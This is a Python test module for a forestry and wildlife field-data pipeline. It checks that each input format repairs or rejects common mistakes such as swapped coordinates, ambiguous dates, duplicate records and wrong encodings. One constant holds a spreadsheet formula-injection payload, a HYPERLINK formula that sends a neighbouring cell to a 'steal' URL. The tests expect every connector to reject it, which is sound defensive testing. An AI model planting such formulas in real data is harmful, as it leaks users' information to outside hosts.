"""Each format of field data with each mistake that people make: put right by a named rule, or set aside with the reason.

A case is one sound record beside a spoilt one, sent through the format's own connector and, where the mistake is one of
values and not of writing, through the check of its table. No row is lost: what was read is kept or set aside.
"""

from __future__ import annotations

import io
import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

import pytest

from expectations.runner import check
from mrv.errors import InputError
from mrv.project_sources import EarthRanger, Files, OdkCentral, Smart, SmartFile, TableFile
from mrv.simulator.odata import as_odata
from mrv.sources import earthranger, files, kobo, odk_central, smart
from mrv.sources.contract import Parsed
from mrv.sources.form_definition import load_form
from tests.unit.expectations.conftest import PARAMETERS
from tests.unit.sources import test_camtrap_dp as camtrap
from tests.unit.sources import test_occurrences as species
from tests.unit.sources.conftest import artifact_of, request_  # noqa: F401 - fixtures
from tests.unit.sources.test_kobo_parsing import SPEC as KOBO
from tests.unit.sources.test_kobo_parsing import submission
from tests.unit.sources.workbooks import rows as sheet_rows
from tests.unit.sources.workbooks import workbook

Landed = Mapping[str, Parsed]
Record = dict[str, Any]
HYPERLINK = '=HYPERLINK("http://example.org/steal?"&A1,"P2")'
TREE: Record = {
    "plot": "P1", "tree": "1", "dbh": "20.5", "day": "2023-05-25", "lat": "-7.1", "lon": "-77.1", "team": "A",
}  # fmt: skip
TREES = {"plot_id": "plot", "tree_id": "tree", "dbh_cm": "dbh"}
PLOTS = {"plot_id": "plot", "census_date": "day", "latitude": "lat", "longitude": "lon", "team": "team"}


@dataclass(frozen=True)
class Case:
    """A mistake in a format, and the rule by which it is found.

    Attributes:
        name: Format and mistake.
        send: Sends the records through the format's connector.
        spoilt: What the second record has otherwise; None: there is no second one, because `send` makes the mistake.
        dataset: Landed table that tells of it.
        rule: Name of the rule; "" where the file is refused as a whole.
        repaired: Whether the value is put right and the record kept.
        checked: Whether the check of the table finds it.
        options: What `send` needs to know.
    """

    name: str
    send: Callable[..., Landed]
    spoilt: Record
    dataset: str
    rule: str
    repaired: bool = False
    checked: bool = False
    options: Record = field(default_factory=dict)


# --- formats -----------------------------------------------------------------------------------------------------
def _table(request, content: bytes, name: str, dataset: str, columns: Mapping[str, str], **mapping: Any) -> Landed:
    folder = request.project_folder / "data"
    folder.mkdir(parents=True)
    (folder / name).write_bytes(content)
    constants = {"census_id": "1", **({"area_ha": 1} if dataset == "plots" else {"genus": "Inga", "status": "alive"})}
    table = TableFile(
        path=name, dataset=dataset, columns=columns, constants=constants, licence="-", citation="-", **mapping
    )
    spec = Files(connector="files", name="field", root="data", tables=(table,))
    return files.parse(spec, files.pull(spec, request), request)


def csv_file(request, _, records: Sequence[Record], *, dataset="plots", written="utf-8", **mapping: Any) -> Landed:
    delimiter = mapping.get("delimiter", ",")
    lines = [list(TREE), *([str(value) for value in record.values()] for record in records)]
    text = "".join(delimiter.join(_quoted(cell, delimiter) for cell in line) + "\n" for line in lines)
    columns = PLOTS if dataset == "plots" else TREES
    return _table(request, text.encode(written), "t.csv", dataset, columns, **mapping)


def _quoted(cell: str, delimiter: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if delimiter in cell or '"' in cell else cell


def xlsx_file(request, _, records: Sequence[Record], *, dataset="plots", **mapping: Any) -> Landed:
    content = workbook(sheet_rows(tuple(TREE), *(tuple(record.values()) for record in records)))
    return _table(request, content, "t.xlsx", dataset, PLOTS if dataset == "plots" else TREES, format="xlsx", **mapping)


def kobo_form(request, artifact_of, records: Sequence[Record]) -> Landed:  # noqa: F811
    page = {"count": len(records), "next": None, "previous": None, "results": list(records)}
    return kobo.parse(KOBO, [artifact_of(json.dumps(page).encode(), address="kobo/aX/page-0001")], request)


def odk_form(request, artifact_of, records: Sequence[Record], *, system: Record | None = None) -> Landed:  # noqa: F811
    spec = OdkCentral(
        connector="odk_central", name="o", project_number=1, form_id="plots", form="forest_plot_census",
        base_url="https://odk.example.org",
    )  # fmt: skip
    values = as_odata(records, load_form("forest_plot_census"))
    if system:
        values[0]["__system"].update(system)
    page = {"value": values, "@odata.count": len(values), "@odata.context": "x"}
    return odk_central.parse(spec, [artifact_of(json.dumps(page).encode(), address="odk/1/plots/page-0001")], request)


EVENT: Record = {
    "Patrol ID": "PT1", "Patrol Leg ID": "1", "Waypoint ID": "1", "Waypoint Date": "2023-05-25", "Waypoint Time": "10:05",
    "X": "-77.1", "Y": "-7.1", "Observation Category 0": "Threat", "Observer": "Rosa",
}  # fmt: skip


def smart_csv(request, _, records: Sequence[Record], *, written="utf-8", **changes: Any) -> Landed:
    folder = request.project_folder / "smart"
    folder.mkdir(parents=True)
    lines = [list(EVENT), *(list(record.values()) for record in records)]
    text = "".join(",".join(_quoted(cell, ",") for cell in line) + "\n" for line in lines)
    (folder / "o.csv").write_bytes(text.encode(written))
    item = SmartFile(path="o.csv", kind="observations", **changes)
    spec = Smart(connector="smart", name="s", root="smart", files=(item,))
    return smart.parse(spec, smart.pull(spec, request), request)


OBJECT: Record = {
    "id": "e1", "event_type": "snare", "event_category": "security", "time": "2023-05-25T10:05:00-05:00", "title": "Snare",
    "location": {"longitude": -77.1, "latitude": -7.1}, "event_details": {},
}  # fmt: skip


def earthranger_file(request, _, records: Sequence[Record]) -> Landed:
    folder = request.project_folder / "er"
    folder.mkdir(parents=True)
    (folder / "events.json").write_bytes(json.dumps(list(records)).encode())
    spec = EarthRanger(connector="earthranger", name="e", root="er", files={"events": ("events.json",)})
    return earthranger.parse(spec, earthranger.pull(spec, request), request)


def camtrap_package(request, _, records: Sequence[Record], *, written="utf-8") -> Landed:
    text = io.StringIO(newline="")
    text.write(camtrap.csv_of([{key: _quoted(value, ",") for key, value in record.items()} for record in records]))
    package = camtrap.files_of(camtrap.descriptor(), deployments=list(records))
    return camtrap.read(request, {**package, "deployments.csv": text.getvalue().encode(written)})


def darwin_core(request, _, records: Sequence[Record], *, written="utf-8") -> Landed:
    first, *others = (species.table({key: value.replace('"', '""') for key, value in item.items()}) for item in records)
    content = b"".join([first, *(other.split(b"\n", 1)[1] for other in others)])
    return {"occurrences": species.read(request, content.decode().encode(written), "darwin_core_csv")}


SOUND: dict[Callable[..., Landed], Record] = {
    csv_file: TREE,
    xlsx_file: TREE,
    kobo_form: submission(1),
    odk_form: submission(1),
    smart_csv: EVENT,
    earthranger_file: OBJECT,
    camtrap_package: camtrap.DEPLOYMENT,
    darwin_core: species.CORE,
}
# A record that differs from the sound one by its id alone, so that the mistake is its only other difference.
OTHER: dict[Callable[..., Landed], Record] = {
    csv_file: TREE | {"plot": "P2"},
    xlsx_file: TREE | {"plot": "P2"},
    kobo_form: submission(2),
    odk_form: submission(2),
    smart_csv: EVENT | {"Waypoint ID": "2"},
    earthranger_file: OBJECT | {"id": "e2"},
    camtrap_package: camtrap.DEPLOYMENT | {"deploymentID": "d2"},
    darwin_core: species.CORE | {"occurrenceID": "urn:2"},
}
DATASET = {smart_csv: "patrol_events", earthranger_file: "patrol_events", camtrap_package: "camera_deployments",
           darwin_core: "occurrences"}  # fmt: skip


def case(name: str, send: Callable[..., Landed], spoilt: Record, rule: str, **more: Any) -> Case:
    return Case(f"{name} {send.__name__}", send, spoilt, more.pop("dataset", DATASET.get(send, "plots")), rule, **more)


TREES_ONLY = {"dataset": "trees", "checked": True, "options": {"dataset": "trees"}}
MM = [{"trees/tree_id": "1", "trees/dbh_cm": "1205", "trees/genus": "Inga", "trees/status": "alive"}]
DMY = {"options": {"dates": "dmy"}, "repaired": True}
MDY = {"options": {"dates": "mdy"}}
CASES = [
    # Millimetres where centimetres are wanted, undeclared: no tree has such a diameter.
    case("mm for cm", csv_file, {"dbh": "1205"}, "dbh_in_range", **TREES_ONLY),
    case("mm for cm", xlsx_file, {"dbh": 1205}, "dbh_in_range", **TREES_ONLY),
    case("mm for cm", kobo_form, {"trees": MM}, "dbh_in_range", dataset="trees", checked=True),
    case("mm for cm", odk_form, {"trees": MM}, "dbh_in_range", dataset="trees", checked=True),
    # The same, declared.
    case("mm declared", csv_file, {"dbh": "1205"}, "unit_converted", dataset="trees", repaired=True,
         options={"dataset": "trees", "factors": {"dbh_cm": "0.1"}}),
    case("mm declared", xlsx_file, {"dbh": 1205}, "unit_converted", dataset="trees", repaired=True,
         options={"dataset": "trees", "factors": {"dbh_cm": "0.1"}}),
    # Latitude and longitude exchanged.
    case("swapped", csv_file, {"lat": "-77.1", "lon": "-7.1"}, "swapped_coordinates"),
    case("swapped", xlsx_file, {"lat": -77.1, "lon": -7.1}, "swapped_coordinates"),
    case("swapped", kobo_form, {"plot/gps": "-77.2 -7.1 1200 5"}, "swapped_coordinates"),
    case("swapped", odk_form, {"plot/gps": "-77.2 -7.1 1200 5"}, "swapped_coordinates"),
    case("swapped", smart_csv, {"X": "-7.1", "Y": "-77.1"}, "swapped_coordinates"),
    case("swapped", earthranger_file, {"location": {"longitude": -7.1, "latitude": -77.1}}, "swapped_coordinates"),
    case("swapped", camtrap_package, {"latitude": "-77.1", "longitude": "-7.1"}, "swapped_coordinates"),
    case("swapped", darwin_core, {"decimalLatitude": "-77.1", "decimalLongitude": "-7.1"}, "swapped_coordinates"),
    # 03/04: the third of April, or the fourth of March.
    case("undeclared date", csv_file, {"day": "03/04/2023"}, "ambiguous_date"),
    case("undeclared date", xlsx_file, {"day": "03/04/2023"}, "ambiguous_date"),
    case("undeclared date", kobo_form, {"plot/census_date": "03/04/2022"}, "ambiguous_date"),
    case("undeclared date", odk_form, {"plot/census_date": "03/04/2022"}, "ambiguous_date"),
    case("undeclared date", smart_csv, {"Waypoint Date": "03/04/2023"}, "ambiguous_date"),
    case("undeclared date", earthranger_file, {"time": "03/04/2023 10:05"}, "unreadable_value"),
    case("undeclared date", camtrap_package, {"deploymentStart": "03/04/2022"}, "unreadable_value"),
    case("undeclared date", darwin_core, {"eventDate": "03/04/2024"}, "unreadable_value"),
    case("declared date", csv_file, {"day": "25/05/2023"}, "date_order_declared", **DMY),
    case("declared date", xlsx_file, {"day": "25/05/2023"}, "date_order_declared", **DMY),
    case("date of another order", csv_file, {"day": "25/05/2023"}, "unreadable_value", **MDY),
    case("date of another order", xlsx_file, {"day": "25/05/2023"}, "unreadable_value", **MDY),
    case("serial date", xlsx_file, {"day": 45071}, "excel_serial_date", repaired=True),
    # The same record twice.
    case("repeated", csv_file, {"plot": "P1"}, "tree_unique", **TREES_ONLY),
    case("repeated", xlsx_file, {"plot": "P1"}, "tree_unique", **TREES_ONLY),
    case("repeated", kobo_form, {"plot/plot_id": "P1"}, "repeated_submission"),
    case("repeated", odk_form, {"plot/plot_id": "P1"}, "repeated_submission"),
    case("repeated", smart_csv, {"Waypoint ID": "1"}, "duplicate_record"),
    case("repeated", earthranger_file, {"id": "e1"}, "duplicate_record"),
    case("repeated", camtrap_package, {"deploymentID": "d1"}, "duplicate_record", checked=True),
    case("repeated", darwin_core, {"occurrenceID": "urn:1"}, "duplicate_record", checked=True),
    # An edit of the first submission; a server of ODK keeps the last edit alone.
    case("edited", kobo_form, {"meta/rootUuid": "uuid:r1", "plot/plot_id": "P1", "plot/area_ha": "0.6"}, "superseded_by_edit"),
    # Withdrawn, or refused by who reviewed it.
    case("refused", kobo_form, {"_validation_status": {"uid": "validation_status_not_approved"}},
         "validation_status_not_approved"),
    case("on hold", kobo_form, {"_validation_status": {"uid": "validation_status_on_hold"}}, "validation_status_on_hold"),
    case("refused", odk_form, {"_validation_status": {"uid": "validation_status_not_approved"}}, "rejected_by_reviewer"),
    case("has issues", odk_form, {"_validation_status": {"uid": "validation_status_on_hold"}}, "has_issues"),
    case("withdrawn", odk_form, {}, "deleted_at_source", options={"system": {"deletedAt": "2023-06-01T00:00:00.000Z"}}),
    # Blanks behind an id.
    case("blanks", csv_file, {"plot": "P2  "}, "trimmed_blanks", repaired=True),
    case("blanks", xlsx_file, {"plot": "P2 "}, "trimmed_blanks", repaired=True),
    case("blanks", kobo_form, {"plot/plot_id": "P2 "}, "trimmed_blanks", repaired=True),
    case("blanks", odk_form, {"plot/plot_id": "P2 "}, "trimmed_blanks", repaired=True),
    case("blanks", smart_csv, {"Patrol ID": "PT1 "}, "trimmed_blanks", repaired=True),
    case("blanks", earthranger_file, {"id": "e2 "}, "trimmed_blanks", repaired=True),
    case("blanks", camtrap_package, {"deploymentID": "d2 "}, "trimmed_blanks", repaired=True),
    case("blanks", darwin_core, {"occurrenceID": "urn:2 "}, "trimmed_blanks", repaired=True),
    # Another encoding than the file is said to have.
    case("latin-1", csv_file, {"team": "Ñandú"}, "", options={"written": "latin-1"}),
    case("latin-1", smart_csv, {"Observer": "Ñandú"}, "", options={"written": "latin-1"}),
    case("latin-1", camtrap_package, {"habitat": "cañón"}, "", options={"written": "latin-1"}),
    case("latin-1", darwin_core, {"recordedBy": "Ñandú"}, "", options={"written": "latin-1"}),
    # A formula that would send what stands beside it.
    case("formula", csv_file, {"plot": HYPERLINK}, "formula_cell"),
    case("formula", xlsx_file, {"plot": HYPERLINK}, "formula_cell"),
    case("formula", kobo_form, {"plot/plot_id": HYPERLINK}, "formula_cell"),
    case("formula", odk_form, {"plot/plot_id": HYPERLINK}, "formula_cell"),
    case("formula", smart_csv, {"Observer": HYPERLINK}, "formula_cell"),
    case("formula", earthranger_file, {"title": HYPERLINK}, "formula_cell"),
    case("formula", camtrap_package, {"setupBy": HYPERLINK}, "formula_cell"),
    case("formula", darwin_core, {"recordedBy": HYPERLINK}, "formula_cell"),
]  # fmt: skip


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_a_mistake_is_put_right_or_set_aside_by_name(case: Case, request_, artifact_of) -> None:  # noqa: F811
    records = [SOUND[case.send], OTHER[case.send] | case.spoilt]
    if case.rule == "":
        with pytest.raises(InputError) as caught:
            case.send(request_, artifact_of, records, **case.options)
        assert caught.value.where
        assert caught.value.remedy
        return
    landed = case.send(request_, artifact_of, records, **case.options)
    for name, part in landed.items():
        aside = {(item["artifact"], item["row"]) for item in part.rejected}
        assert part.table.num_rows + len(aside) == part.rows_read, name
    part = landed[case.dataset]
    found = part.repairs if case.repaired else part.rejected
    if case.checked:
        assert part.rejected == []
        outcome = check(case.dataset, part.table, parameters=PARAMETERS | {"known_plot_keys": _plots(part)})
        found = outcome.quarantine.to_pylist()
        assert outcome.accepted.num_rows + len({(item["artifact"], item["row"]) for item in found}) == part.rows_read
    assert case.rule in {item["rule"] for item in found}
    if not case.repaired:
        # One record alone is set aside, and a place is never told.
        assert len({(item["artifact"], item["row"]) for item in found}) == 1
        assert all(item["reason"] and "-77." not in item["reason"] for item in found)
    else:
        assert part.rejected == []


def _plots(part: Parsed) -> list[str]:
    rows = part.table.to_pylist()
    return sorted({f"{row.get('plot_id')}|{row.get('census_id')}|{row.get('submission_id') or ''}" for row in rows})


@pytest.mark.parametrize(("encoding", "name"), [("latin-1", "Ñandú"), ("cp1252", "Ñandú’s"), ("utf-8", "Ñandú 𝛼")])
def test_a_declared_encoding_is_read(encoding, name, request_, artifact_of) -> None:  # noqa: F811
    record = TREE | {"team": name}
    landed = csv_file(request_, artifact_of, [record], written=encoding, encoding=encoding, delimiter=";")
    assert landed["plots"].table["team"].to_pylist() == [name]
    event = EVENT | {"Observer": name}
    assert smart_csv(request_, artifact_of, [event], written=encoding, encoding=encoding)["patrol_events"].table[
        "reported_by"
    ].to_pylist() == [name]


def test_every_format_is_sent_every_mistake_that_it_can_hold() -> None:
    held = {(case.name.split()[0], case.send) for case in CASES}
    for send in SOUND:
        assert {("swapped", send), ("formula", send), ("repeated", send), ("undeclared", send)} <= held
